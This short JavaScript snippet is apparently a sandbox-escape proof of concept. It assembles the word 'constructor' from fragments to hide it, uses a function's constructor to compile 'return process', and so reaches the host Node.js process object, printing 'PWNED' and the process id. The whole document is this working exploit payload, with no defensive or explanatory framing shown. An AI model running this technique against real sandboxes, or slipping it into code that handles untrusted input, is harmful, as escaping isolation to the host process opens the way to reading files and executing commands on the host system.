const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
function f() { return arguments[0].go(fn); }
console.log('PWNED', f(t)('return process')().pid);
